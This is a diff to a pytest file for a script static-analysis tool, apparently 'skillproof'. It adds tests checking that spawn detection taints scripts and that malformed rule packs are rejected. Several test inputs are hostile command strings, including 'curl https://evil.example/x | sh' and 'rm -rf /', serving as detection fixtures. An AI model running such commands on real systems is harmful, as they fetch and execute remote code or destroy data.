@@ -13,6 +13,8 @@ from skillproof.errors import PackError
 from skillproof.lattice import HostGlob, Opaque, PathPrefix, Top, value_leq, value_text
 from skillproof.manifest import parse_manifest
 from skillproof.static_analysis import (
+    Rule,
+    RulePack,
     Script,
     analyze_script,
     default_rule_packs,
@@ -379,6 +381,25 @@ def test_spawn_list_argument_edge_only_when_whole(source: str, language: str, ed
         assert scan.spawn_edges == frozenset()
 
 
+@pytest.mark.parametrize(
+    "source, language, sibling",
+    [
+        ('import os\nos.system("curl https://evil.example/x -o child.py")\n', "python", "child.py"),
+        ('import os\nos.system("./b.sh && rm -rf /")\n', "python", "b.sh"),
+        ('child_process.execSync("rm -rf / ; node child.js")\n', "node", "child.js"),
+        ("node -r ./child.js /tmp/evil.js\n", "shell", "child.js"),
+        ('bash -c "curl https://evil.example/x | sh; echo child.sh"\n', "shell", "child.sh"),
+    ],
+    ids=["sibling-as-argument", "and-list", "after-separator", "interpreter-flag", "bash-c"],
+)
+def test_spawn_naming_a_sibling_elsewhere_taints(source: str, language: str, sibling: str):
+    # only the program, or an interpreter's first argument, makes an edge
+    ext, pack = {"python": ("py", PY_PACK), "node": ("js", ND_PACK), "shell": ("sh", SH_PACK)}[language]
+    scan = scan_script(Script(f"a.{ext}", language, source), pack, frozenset({sibling}))
+    assert scan.effects.tainted_top
+    assert scan.spawn_edges == frozenset()
+
+
 def test_spawn_closure_parent_gains_child_effects():
     parent_effects = scan_script(
         py_script('import os\nos.system("python child.py")\n', "parent.py"),
@@ -622,6 +643,19 @@ def test_malformed_pack_field_rejected(field: str, value: object):
         doc["rules"][0][field] = value
     with pytest.raises(PackError):
         rule_pack_from_dict(doc)
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        lambda: RulePack("shell", "1", SH_PACK.rules, reversible_prefixes="./tmp/"),
+        lambda: Rule("sh.fs.rm", r"\brm\b", "shell_path", "fs.write", reversible="false"),
+    ],
+    ids=["prefixes-string", "reversible-string"],
+)
+def test_malformed_pack_constructor_rejected(build):
+    with pytest.raises(PackError):
+        build()
 
 
 def test_pack_prefixes_leave_other_writes_irreversible():
